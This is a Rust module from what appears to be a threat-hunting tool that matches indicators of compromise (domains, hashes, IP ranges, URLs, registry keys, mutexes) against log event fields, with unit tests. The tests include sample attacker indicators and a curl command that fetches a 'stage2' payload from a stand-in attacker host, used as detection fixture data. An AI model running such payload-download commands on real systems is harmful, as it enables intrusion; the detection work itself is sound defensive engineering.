//! Matching indicators against every field of every event, in one pass
//! over each field's text whatever the number of indicators:
//!
//! - the text is cut into runs of name characters (letters, digits, `.`,
//!   `-`, `_`, `@`, `+`); each run, and each part of it after a dot, is
//!   looked up in hash maps of domains, file names and e-mail addresses;
//!   its hex tokens of 32, 40 or 64 digits in the map of hashes; a run that
//!   is an address in the map of addresses and the sorted CIDR ranges;
//! - a URL is looked up by its host (a run of its own) and then checked
//!   whole in the field's text;
//! - values with other characters (registry keys, accounts, mutexes, file
//!   names with spaces, URLs without a plain host) go through one
//!   Aho-Corasick automaton, kept small because the bulk of a feed (hashes,
//!   domains, addresses, URLs) never enters it.
//!
//! Matches are whole tokens and ignore case (except mutex names).

use std::collections::HashMap as StdHashMap;

type HashMap<K, V> = StdHashMap<K, V, foldhash::fast::RandomState>;
use std::net::IpAddr;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use crrt_intel::{Kind, Observable};
use ipnet::IpNet;
use serde_json::Value;

use crate::record::Record;

/// One indicator to look for, with the name findings give it.
#[derive(Debug, Clone)]
pub struct IndicatorSpec {
    /// Its id where it is kept (the platform's), or the value itself.
    pub id: String,
    pub observable: Observable,
    pub tags: Vec<String>,
}

/// A compiled set of indicators, `Send + Sync`, built once per hunt.
pub struct IndicatorSet {
    specs: Vec<IndicatorSpec>,
    /// Domains, file names and e-mail addresses by the [`text_key`] of
    /// their lower-cased text, to the first spec with that key;
    /// `same[spec]` chains the others (a hit is confirmed on the value, so
    /// two texts sharing a key cost a comparison, never a false hit).
    /// Keys rather than strings: a 100,000-line feed builds its maps
    /// without a copy of every value.
    names: HashMap<u64, usize>,
    /// Hex digests, by key.
    hashes: HashMap<u64, usize>,
    /// URLs by the key of their lower-cased host (`user@host` included,
    /// port not).
    url_hosts: HashMap<u64, usize>,
    addresses: HashMap<u128, usize>,
    same: Vec<Option<usize>>,
    /// CIDR blocks as (first, last) sorted by first, with the running
    /// maximum of `last`, for a binary search per address.
    ranges: Vec<(u128, u128, usize)>,
    max_last: Vec<u128>,
    /// Everything else, lower-cased; pattern i stands for `other_spec[i]`.
    others: Option<AhoCorasick>,
    other_spec: Vec<usize>,
    /// Whether some name or URL host has neither `.` nor `@` (a file name
    /// without extension, `localhost`): only then are such runs, most of
    /// an event's words, looked up at all.
    dotless: bool,
    /// The keys of the last labels (after the last `.` or `@`) of the
    /// names and URL hosts: a run whose last label is not among them
    /// (`System.Management.Automation`, `$env.Path`) cannot be or end with
    /// one, and is not lowercased nor looked up further.
    labels: HashSet<u64>,
}

type HashSet<K> = std::collections::HashSet<K, foldhash::fast::RandomState>;

impl std::fmt::Debug for IndicatorSet {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("IndicatorSet")
            .field("indicators", &self.specs.len())
            .field("ranges", &self.ranges.len())
            .field("others", &self.other_spec.len())
            .finish()
    }
}

/// An indicator found in an event.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct IndicatorHit {
    pub spec: usize,
    /// The field it was found in (dotted path).
    pub field: String,
}

fn as_u128(ip: IpAddr) -> u128 {
    match ip {
        // IPv4 in the IPv4-mapped IPv6 space, so both share one order.
        IpAddr::V4(v4) => u128::from(v4.to_ipv6_mapped()),
        IpAddr::V6(v6) => u128::from(v6),
    }
}

/// The map key of a lower-cased text (a fixed seed: keys are compared
/// within one set only).
fn text_key(lower: &str) -> u64 {
    use std::hash::BuildHasher;
    foldhash::fast::FixedState::with_seed(0x0c22_7a7e).hash_one(lower)
}

const fn name_char(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_' | b'@' | b'+')
}

/// Byte classes for the scan of a field: one table load per byte.
const NAME: u8 = 1;
const ALNUM: u8 = 2;
const HEX: u8 = 4;
/// `.` or `@`: a run with one may be a domain, file name or address.
const MARK: u8 = 8;

static CLASS: [u8; 256] = {
    let mut class = [0u8; 256];
    let mut b = 0;
    while b < 256 {
        let c = b as u8;
        if name_char(c) {
            class[b] |= NAME;
        }
        if c.is_ascii_alphanumeric() {
            class[b] |= ALNUM;
        }
        if c.is_ascii_hexdigit() {
            class[b] |= HEX;
        }
        if c == b'.' || c == b'@' {
            class[b] |= MARK;
        }
        b += 1;
    }
    class
};

/// What follows the last `.` or `@` (the whole text without either).
fn last_label(text: &str) -> &str {
    match text.bytes().rposition(|b| b == b'.' || b == b'@') {
        Some(at) => &text[at + 1..],
        None => text,
    }
}

impl IndicatorSet {
    pub fn new(specs: Vec<IndicatorSpec>) -> IndicatorSet {
        let mut set = IndicatorSet {
            specs: Vec::new(),
            names: HashMap::with_capacity_and_hasher(specs.len() / 2, Default::default()),
            hashes: HashMap::with_capacity_and_hasher(specs.len() / 2, Default::default()),
            url_hosts: HashMap::default(),
            addresses: HashMap::with_capacity_and_hasher(specs.len() / 4, Default::default()),
            same: vec![None; specs.len()],
            ranges: Vec::new(),
            max_last: Vec::new(),
            others: None,
            other_spec: Vec::new(),
            dotless: false,
            labels: HashSet::default(),
        };
        let mut others: Vec<String> = Vec::new();
        // Keeps the first spec per key and chains the others behind it.
        fn add<K: std::hash::Hash + Eq>(
            map: &mut HashMap<K, usize>,
            same: &mut [Option<usize>],
            key: K,
            n: usize,
        ) {
            match map.entry(key) {
                std::collections::hash_map::Entry::Vacant(v) => {
                    v.insert(n);
                }
                std::collections::hash_map::Entry::Occupied(o) => {
                    let mut at = *o.get();
                    while let Some(next) = same[at] {
                        at = next;
                    }
                    same[at] = Some(n);
                }
            }
        }
        let mut lower = String::new();
        for (n, spec) in specs.iter().enumerate() {
            let value = &spec.observable.value;
            lower.clear();
            lower.push_str(value);
            lower.make_ascii_lowercase();
            match spec.observable.kind {
                Kind::Md5 | Kind::Sha1 | Kind::Sha256 | Kind::Ja3 => {
                    add(&mut set.hashes, &mut set.same, text_key(&lower), n);
                }
                Kind::Ipv4 | Kind::Ipv6 => {
                    if let Ok(ip) = value.parse::<IpAddr>() {
                        add(&mut set.addresses, &mut set.same, as_u128(ip), n);
                    }
                }
                Kind::Cidr => {
                    if let Ok(net) = value.parse::<IpNet>() {
                        let (first, last) = match net {
                            IpNet::V4(v4) => (
                                as_u128(IpAddr::V4(v4.network())),
                                as_u128(IpAddr::V4(v4.broadcast())),
                            ),
                            IpNet::V6(v6) => (
                                as_u128(IpAddr::V6(v6.network())),
                                as_u128(IpAddr::V6(v6.broadcast())),
                            ),
                        };
                        set.ranges.push((first, last, n));
                    }
                }
                Kind::Domain | Kind::Email | Kind::FileName if value.bytes().all(name_char) => {
                    set.dotless |= !lower.contains(['.', '@']);
                    set.labels.insert(text_key(last_label(&lower)));
                    add(&mut set.names, &mut set.same, text_key(&lower), n);
                }
                Kind::Url if url_host(&lower).is_some() => {
                    let host = url_host(&lower).unwrap_or_default();
                    set.dotless |= !host.contains(['.', '@']);
                    set.labels.insert(text_key(last_label(host)));
                    add(&mut set.url_hosts, &mut set.same, text_key(host), n);
                }
                Kind::RegistryKey => {
                    // Sysmon writes hives abbreviated: HKLM\..., HKU\...
                    others.push(lower.clone());
                    set.other_spec.push(n);
                    for (long, short) in [
                        ("hkey_local_machine\\", "hklm\\"),
                        ("hkey_current_user\\", "hkcu\\"),
                        ("hkey_users\\", "hku\\"),
                        ("hkey_classes_root\\", "hkcr\\"),
                    ] {
                        if let Some(rest) = lower.strip_prefix(long) {
                            others.push(format!("{short}{rest}"));
                            set.other_spec.push(n);
                        }
                    }
                }
                _ => {
                    others.push(lower.clone());
                    set.other_spec.push(n);
                }
            }
        }
        set.ranges.sort_unstable();
        let mut running = 0;
        set.max_last = set
            .ranges
            .iter()
            .map(|(_, last, _)| {
                running = running.max(*last);
                running
            })
            .collect();
        set.others = (!others.is_empty())
            .then(|| {
                AhoCorasickBuilder::new()
                    .match_kind(MatchKind::Standard)
                    .build(&others)
                    .ok()
            })
            .flatten();
        set.specs = specs;
        set
    }

    pub fn len(&self) -> usize {
        self.specs.len()
    }

    pub fn is_empty(&self) -> bool {
        self.specs.is_empty()
    }

    pub fn spec(&self, n: usize) -> &IndicatorSpec {
        &self.specs[n]
    }

    /// Every indicator in the record, once each, with the first field it
    /// was found in.
    pub fn find(&self, record: &Record) -> Vec<IndicatorHit> {
        let mut hits: Vec<IndicatorHit> = Vec::new();
        let mut scratch = Scratch::default();
        let mut path = String::new();
        self.walk(&record.fields, &mut path, &mut hits, &mut scratch);
        hits
    }

    fn walk(
        &self,
        value: &Value,
        path: &mut String,
        hits: &mut Vec<IndicatorHit>,
        scratch: &mut Scratch,
    ) {
        match value {
            Value::String(text) => {
                scratch.found.clear();
                self.find_in(text, scratch);
                for &spec in &scratch.found {
                    if !hits.iter().any(|h| h.spec == spec) {
                        hits.push(IndicatorHit {
                            spec,
                            field: path.clone(),
                        });
                    }
                }
            }
            Value::Object(map) => {
                for (key, inner) in map {
                    let before = path.len();
                    if !path.is_empty() {
                        path.push('.');
                    }
                    path.push_str(key);
                    self.walk(inner, path, hits, scratch);
                    path.truncate(before);
                }
            }
            Value::Array(items) => {
                for item in items {
                    self.walk(item, path, hits, scratch);
                }
            }
            _ => {}
        }
    }

    fn find_in(&self, text: &str, scratch: &mut Scratch) {
        let bytes = text.as_bytes();
        scratch.urls.clear();
        let digests = !self.hashes.is_empty();
        // One pass over the bytes: runs of name characters, and within
        // them the alphanumeric tokens a digest would be.
        let mut i = 0;
        while i < bytes.len() {
            if CLASS[usize::from(bytes[i])] & NAME == 0 {
                i += 1;
                continue;
            }
            let start = i;
            let mut marked = false;
            let mut token = i;
            loop {
                while i < bytes.len() && CLASS[usize::from(bytes[i])] & ALNUM != 0 {
                    i += 1;
                }
                // Whether a token is hex is asked only of the few with a
                // digest's length, not tracked byte by byte.
                if digests
                    && matches!(i - token, 32 | 40 | 64)
                    && bytes[token..i]
                        .iter()
                        .all(|&b| CLASS[usize::from(b)] & HEX != 0)
                {
                    self.digest(&bytes[token..i], scratch);
                }
                let class = bytes.get(i).map_or(0, |b| CLASS[usize::from(*b)]);
                if class & NAME == 0 {
                    break;
                }
                marked |= class & MARK != 0;
                i += 1;
                token = i;
            }
            self.run(&text[start..i], marked, scratch);
        }
        if (!self.addresses.is_empty() || !self.ranges.is_empty()) && text.contains(':') {
            self.ipv6_runs(text, scratch);
        }
        let token = |b: u8| b.is_ascii_alphanumeric();
        if !scratch.urls.is_empty() {
            // A URL whose host is in the text: is the whole URL there too?
            scratch.lower.clear();
            scratch.lower.push_str(text);
            scratch.lower.make_ascii_lowercase();
            let lower = scratch.lower.as_bytes();
            for &spec in &scratch.urls {
                let url = self.specs[spec].observable.value.to_ascii_lowercase();
                let whole = memchr::memmem::find_iter(lower, url.as_bytes()).any(|at| {
                    let end = at + url.len();
                    (at == 0 || !token(lower[at - 1])) && (end == lower.len() || !token(lower[end]))
                });
                if whole && !scratch.found.contains(&spec) {
                    scratch.found.push(spec);
                }
            }
        }
        if let Some(others) = &self.others {
            scratch.lower.clear();
            scratch.lower.push_str(text);
            scratch.lower.make_ascii_lowercase();
            for m in others.find_overlapping_iter(scratch.lower.as_str()) {
                let spec = self.other_spec[m.pattern().as_usize()];
                let whole = (m.start() == 0 || !token(bytes[m.start() - 1]))
                    && (m.end() == bytes.len() || !token(bytes[m.end()]));
                // Mutex names are the one kind compared with case.
                let exact = self.specs[spec].observable.kind != Kind::Mutex
                    || text[m.start()..m.end()] == self.specs[spec].observable.value;
                if whole && exact {
                    scratch.found.push(spec);
                }
            }
        }
    }

    /// One run of name characters; `marked` if it has a `.` or `@`.
    fn run(&self, run: &str, marked: bool, scratch: &mut Scratch) {
        // A sentence's full stop is not part of a name (bytes, not chars:
        // a run is ASCII).
        let end = run.bytes().rposition(|b| b != b'.').map_or(0, |at| at + 1);
        let run = &run[..end];
        if run.is_empty() {
            return;
        }
        if (!self.names.is_empty() || !self.url_hosts.is_empty())
            && (self.dotless || marked)
            && self.may_name(run)
        {
            scratch.lower.clear();
            scratch.lower.push_str(run);
            scratch.lower.make_ascii_lowercase();
            let lower = scratch.lower.as_str();
            // The whole run, its domain part after an `@`, and each part
            // after a dot (a subdomain reaches its parent domain).
            let mut look = |candidate: &str| {
                if let Some(&first) = self.names.get(&text_key(candidate)) {
                    self.chain_equal(first, candidate, &mut scratch.found);
                }
            };
            look(lower);
            if let Some(&first) = self.url_hosts.get(&text_key(lower)) {
                // Confirmed later, on the whole URL.
                self.chain(first, &mut scratch.urls);
            }
            let host = lower.rsplit_once('@').map_or(lower, |(_, h)| h);
            if host.len() != lower.len() {
                look(host);
            }
            for (at, _) in host.match_indices('.') {
                look(&host[at + 1..]);
            }
        }
        // Only a run of four dotted parts is parsed (numbers such as
        // event ids and sizes were 5% of a hunt's indicator work).
        if (!self.addresses.is_empty() || !self.ranges.is_empty())
            && marked
            && run.len() <= 15
            && run.as_bytes()[0].is_ascii_digit()
            && run.bytes().filter(|&b| b == b'.').count() == 3
            && let Ok(ip) = run.parse::<std::net::Ipv4Addr>()
        {
            self.address(IpAddr::V4(ip), scratch);
        }
    }

    /// Whether the run's last label is one a name or URL host ends with.
    fn may_name(&self, run: &str) -> bool {
        let label = last_label(run).as_bytes();
        let mut buf = [0u8; 64];
        let Some(buf) = buf.get_mut(..label.len()) else {
            // Longer than any label worth a filter: look it up.
            return true;
        };
        buf.copy_from_slice(label);
        buf.make_ascii_lowercase();
        let lower = std::str::from_utf8(buf).unwrap_or_default();
        self.labels.contains(&text_key(lower))
    }

    /// A token of 32, 40 or 64 hex digits.
    fn digest(&self, token: &[u8], scratch: &mut Scratch) {
        let mut buf = [0u8; 64];
        let buf = &mut buf[..token.len()];
        buf.copy_from_slice(token);
        buf.make_ascii_lowercase();
        let lower = std::str::from_utf8(buf).unwrap_or_default();
        if let Some(&first) = self.hashes.get(&text_key(lower)) {
            self.chain_equal(first, lower, &mut scratch.found);
        }
    }

    /// IPv6 addresses: runs of hex digits, colons and dots with two colons
    /// or more. Only the runs around colons are looked at (found with
    /// `memchr`): walking every byte of every value that has a colon (a
    /// time, a `C:` path) was 4% of a hunt's indicator work.
    fn ipv6_runs(&self, text: &str, scratch: &mut Scratch) {
        let part = |b: u8| b.is_ascii_hexdigit() || b == b':' || b == b'.';
        let bytes = text.as_bytes();
        // Bytes before this one belong to a run already looked at.
        let mut seen = 0;
        for colon in memchr::memchr_iter(b':', bytes) {
            if colon < seen {
                continue;
            }
            let mut start = colon;
            while start > seen && part(bytes[start - 1]) {
                start -= 1;
            }
            let mut end = colon + 1;
            while end < bytes.len() && part(bytes[end]) {
                end += 1;
            }
            seen = end;
            let run = &text[start..end];
            if run.len() >= 3
                && run.bytes().filter(|b| *b == b':').count() >= 2
                && let Ok(ip) = run.parse::<std::net::Ipv6Addr>()
            {
                self.address(IpAddr::V6(ip), scratch);
            }
        }
    }

    /// The specs chained under a key whose value is `lower` (ignoring
    /// ASCII case).
    fn chain_equal(&self, first: usize, lower: &str, found: &mut Vec<usize>) {
        let mut at = Some(first);
        while let Some(n) = at {
            if self.specs[n].observable.value.eq_ignore_ascii_case(lower) {
                found.push(n);
            }
            at = self.same[n];
        }
    }

    /// A spec and the others chained behind it under the same key.
    fn chain(&self, first: usize, found: &mut Vec<usize>) {
        let mut at = Some(first);
        while let Some(n) = at {
            found.push(n);
            at = self.same[n];
        }
    }

    fn address(&self, ip: IpAddr, scratch: &mut Scratch) {
        let ip = as_u128(ip);
        if let Some(&first) = self.addresses.get(&ip) {
            self.chain(first, &mut scratch.found);
        }
        // Ranges starting at or before the address; walk back while an
        // earlier one may still reach it.
        let mut i = self.ranges.partition_point(|(first, _, _)| *first <= ip);
        while i > 0 && self.max_last[i - 1] >= ip {
            i -= 1;
            let (first, last, spec) = self.ranges[i];
            if first <= ip && ip <= last {
                scratch.found.push(spec);
            }
        }
    }
}

/// Buffers reused across the fields of one record.
#[derive(Default)]
struct Scratch {
    lower: String,
    found: Vec<usize>,
    /// URLs whose host is in the current field, to be checked whole.
    urls: Vec<usize>,
}

/// The host a URL is looked up by (its authority without the port), when
/// it is one run of name characters as the text scan cuts them.
fn url_host(lower: &str) -> Option<&str> {
    let (_, rest) = lower.split_once("://")?;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = match authority.rsplit_once(':') {
        Some((host, port)) if port.bytes().all(|b| b.is_ascii_digit()) => host,
        _ => authority,
    };
    (!host.is_empty()
        && host.bytes().all(name_char)
        && !host.ends_with('.')
        && !host.starts_with('.'))
    .then_some(host)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::record::RecordKind;

    fn set(lines: &[&str]) -> IndicatorSet {
        IndicatorSet::new(
            lines
                .iter()
                .map(|l| IndicatorSpec {
                    id: (*l).to_owned(),
                    observable: Observable::parse_line(l).expect("valid"),
                    tags: Vec::new(),
                })
                .collect(),
        )
    }

    fn found(set: &IndicatorSet, fields: Value) -> Vec<String> {
        let record = Record {
            kind: RecordKind::Json,
            fields,
            timestamp: None,
            position: 1,
        };
        set.find(&record)
            .into_iter()
            .map(|h| format!("{}@{}", set.spec(h.spec).id, h.field))
            .collect()
    }

    #[test]
    fn whole_tokens_any_case_any_field() {
        let s = set(&[
            "evil.example",
            "185.61.137.4",
            "a196c6b8ffcb97ffb276d04f354696e2391311db3841ae16c8c9f56f36a38e92",
            "10.66.0.0/16",
            r"mutex:Global\WG",
            r"HKLM\SYSTEM\CurrentControlSet\Services\EaseUS",
        ]);
        assert_eq!(
            found(&s, serde_json::json!({"a": {"Query": "C2.EVIL.EXAMPLE"}})),
            ["evil.example@a.Query"]
        );
        assert!(found(&s, serde_json::json!({"q": "notevil.example"})).is_empty());
        assert!(found(&s, serde_json::json!({"ip": "185.61.137.45"})).is_empty());
        assert_eq!(
            found(&s, serde_json::json!({"cmd": "ping 185.61.137.4 -n 1"})),
            ["185.61.137.4@cmd"]
        );
        assert_eq!(
            found(&s, serde_json::json!({"Hashes": "SHA256=A196C6B8FFCB97FFB276D04F354696E2391311DB3841AE16C8C9F56F36A38E92"})).len(),
            1
        );
        assert_eq!(
            found(&s, serde_json::json!({"DestinationIp": "10.66.12.7"})),
            ["10.66.0.0/16@DestinationIp"]
        );
        assert!(found(&s, serde_json::json!({"DestinationIp": "10.67.0.1"})).is_empty());
        assert!(
            found(&s, serde_json::json!({"m": "global\\wg"})).is_empty(),
            "mutex case"
        );
        assert_eq!(found(&s, serde_json::json!({"m": "Global\\WG"})).len(), 1);
        assert_eq!(
            found(&s, serde_json::json!({"TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\EaseUS\\ImagePath"})).len(),
            1,
            "the abbreviated hive"
        );
        assert_eq!(
            found(
                &s,
                serde_json::json!({"x": ["evil.example", "evil.example"]})
            )
            .len(),
            1,
            "once per record"
        );
    }

    #[test]
    fn urls_by_host_then_whole() {
        let s = set(&[
            "hxxp://evil[.]example/stage2",
            "http://evil.example:8080/panel",
            "https://drop.example",
            "http://[2001:db8::1]/x",
            "http://bob@mail.example/inbox",
        ]);
        assert_eq!(
            found(
                &s,
                serde_json::json!({"cmd": "curl HTTP://EVIL.EXAMPLE/Stage2 -o x"})
            ),
            ["hxxp://evil[.]example/stage2@cmd"]
        );
        // The host alone, or the URL inside a longer token, is not the URL.
        assert!(found(&s, serde_json::json!({"q": "evil.example"})).is_empty());
        assert!(found(&s, serde_json::json!({"q": "http://evil.example/stage23"})).is_empty());
        assert!(found(&s, serde_json::json!({"q": "http://evil.example/panel"})).is_empty());
        assert_eq!(
            found(
                &s,
                serde_json::json!({"q": "GET http://evil.example:8080/panel?id=1"})
            )
            .len(),
            1
        );
        assert_eq!(
            found(&s, serde_json::json!({"q": "see https://drop.example/"})).len(),
            1
        );
        assert!(
            found(&s, serde_json::json!({"q": "https://drop.example.org/"})).is_empty(),
            "another host that starts alike"
        );
        assert_eq!(
            found(
                &s,
                serde_json::json!({"q": "fetch http://[2001:db8::1]/x now"})
            )
            .len(),
            1,
            "a host the scan does not cut as one run still matches"
        );
        assert_eq!(
            found(&s, serde_json::json!({"a": "http://bob@mail.example/inbox", "b": "http://evil.example/stage2"})).len(),
            2
        );
    }

    #[test]
    fn names_without_a_dot_are_still_found() {
        let s = set(&["filename:dropper", "http://intranet/x", "evil.example"]);
        assert_eq!(
            found(&s, serde_json::json!({"p": "C:\\Temp\\DROPPER"})).len(),
            1
        );
        assert_eq!(
            found(&s, serde_json::json!({"u": "GET http://intranet/x"})).len(),
            1
        );
        let dotted = set(&["evil.example"]);
        assert!(!dotted.dotless);
        assert_eq!(
            found(&dotted, serde_json::json!({"q": "c2.evil.example"})).len(),
            1
        );
    }

    #[test]
    fn runs_are_filtered_by_their_last_label_only() {
        let long = format!("evil.{}", "x".repeat(70));
        let s = set(&[
            "evil.example",
            "bob@mail.example",
            "filename:Stage2.EXE",
            &format!("filename:{long}"),
        ]);
        // Every candidate of a run (whole, after `@`, after each dot) ends
        // with the run's last label, whatever its case.
        assert_eq!(
            found(&s, serde_json::json!({"a": "C2.Evil.EXAMPLE."})).len(),
            1
        );
        assert_eq!(
            found(&s, serde_json::json!({"a": "to BOB@Mail.Example"})).len(),
            1
        );
        assert_eq!(
            found(&s, serde_json::json!({"a": "C:\\Temp\\stage2.exe"})).len(),
            1
        );
        assert_eq!(
            found(
                &s,
                serde_json::json!({"a": format!("a.{}", long.to_uppercase())})
            )
            .len(),
            1,
            "a label too long for the filter is looked up"
        );
        assert!(found(&s, serde_json::json!({"a": "evil.example.org"})).is_empty());
        assert!(found(&s, serde_json::json!({"a": "System.Management.Automation"})).is_empty());
    }

    #[test]
    fn overlapping_ranges_are_all_found() {
        let s = set(&[
            "10.0.0.0/8",
            "10.1.0.0/16",
            "10.200.0.0/16",
            "2001:db8::/32",
        ]);
        let mut hits = found(&s, serde_json::json!({"ip": "10.1.2.3"}));
        hits.sort();
        assert_eq!(hits, ["10.0.0.0/8@ip", "10.1.0.0/16@ip"]);
        assert_eq!(found(&s, serde_json::json!({"ip": "2001:db8::5"})).len(), 1);
        assert!(found(&s, serde_json::json!({"ip": "11.0.0.1"})).is_empty());
    }

    #[test]
    fn ipv6_addresses_are_found_among_other_colons() {
        let s = set(&["2001:db8::5", "fe80::/10", "10.1.2.3"]);
        let text = "12:30:01 C:\\x from [2001:db8::5]:443, then fe80::1:2 and ::ffff:10.1.2.3";
        let mut hits = found(&s, serde_json::json!({"m": text}));
        hits.sort();
        assert_eq!(hits, ["10.1.2.3@m", "2001:db8::5@m", "fe80::/10@m"]);
        assert!(found(&s, serde_json::json!({"m": "2001:db8::6 at 12:30:01"})).is_empty());
    }
}
